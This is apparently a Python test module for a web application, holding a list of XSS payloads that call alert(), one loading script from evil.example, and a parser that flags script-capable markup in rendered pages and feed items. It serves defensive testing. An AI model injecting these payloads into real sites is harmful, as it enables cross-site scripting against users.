"""The XSS payload corpus and a checker for rendered HTML.

Every payload calls ``alert()`` if it runs, so the browser test can trap it;
the parser check finds what could run even when a browser would not (yet).
"""

import json
import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    '</script><script>alert(1)</script>',
    '"}]</script><script>alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "cite", "srcset"}
DANGEROUS_ELEMENTS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}
SCRIPT_URL = re.compile(r"^(?:javascript|vbscript|data):", re.IGNORECASE)
INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


class Findings(HTMLParser):
    """Collects everything in a page that could run script."""

    def __init__(self, page_name: str):
        super().__init__(convert_charrefs=True)
        self.page_name = page_name
        self.problems: list[str] = []
        self._data_script = None
        self._data_text: list[str] = []

    def problem(self, what: str):
        self.problems.append(f"{self.page_name}: {what}")

    def handle_starttag(self, tag, attrs):
        self.check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self.check(tag, attrs)

    def check(self, tag, attrs):
        values = dict(attrs)
        if tag == "script":
            kind = (values.get("type") or "").lower()
            src = values.get("src")
            if kind in DATA_SCRIPT_TYPES and not src:
                self._data_script, self._data_text = kind, []
            elif not (src and src.startswith("/static/")):
                self.problem(f"script element {attrs}")
        if tag in DANGEROUS_ELEMENTS:
            self.problem(f"<{tag}> element {attrs}")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.problem(f"meta refresh {attrs}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problem(f"event attribute {name}={value!r} on <{tag}>")
            if name in URL_ATTRIBUTES and value:
                for candidate in value.split(",") if name == "srcset" else [value]:
                    if SCRIPT_URL.match(INVISIBLE.sub("", candidate)):
                        self.problem(f"script URL {name}={value!r} on <{tag}>")
            if name == "style" and value and re.search(r"javascript:|expression\(|url\(", value, re.IGNORECASE):
                self.problem(f"style {value!r} on <{tag}>")

    def handle_data(self, data):
        if self._data_script:
            self._data_text.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._data_script:
            text = "".join(self._data_text)
            try:
                json.loads(text)
            except ValueError:
                self.problem(f"{self._data_script} block is not valid JSON (broken out of?): {text[:120]!r}")
            self._data_script = None


def script_problems(html: str, page_name: str) -> list[str]:
    findings = Findings(page_name)
    findings.feed(html)
    findings.close()
    return findings.problems


FEED_ITEMS = re.compile(r"<(item|entry)\b[^>]*>(.*?)</\1>", re.DOTALL)
FEED_HTML_ELEMENTS = re.compile(r"<(description|content|summary|content:encoded)\b[^>]*>(.*?)</\1>", re.DOTALL)


def feed_html_blocks(xml: str, *, channel: bool = False) -> list[str]:
    """The HTML a feed reader renders: item/entry descriptions and content (or, with
    ``channel=True``, the feed's own description outside the items)."""
    from html import unescape

    if channel:
        sources = [FEED_ITEMS.sub("", xml)]
    else:
        sources = [inner for _, inner in FEED_ITEMS.findall(xml)]
    blocks = []
    for source in sources:
        for _, inner in FEED_HTML_ELEMENTS.findall(source):
            inner = inner.strip()
            blocks.append(inner[9:-3] if inner.startswith("<![CDATA[") else unescape(inner))
    return blocks


def feed_problems(xml: str, page_name: str, *, channel: bool = False) -> list[str]:
    """Feed readers render the HTML inside item descriptions: check it like a page."""
    problems = []
    for block in feed_html_blocks(xml, channel=channel):
        problems += script_problems(block, f"{page_name} ({'channel' if channel else 'feed item'})")
    return problems
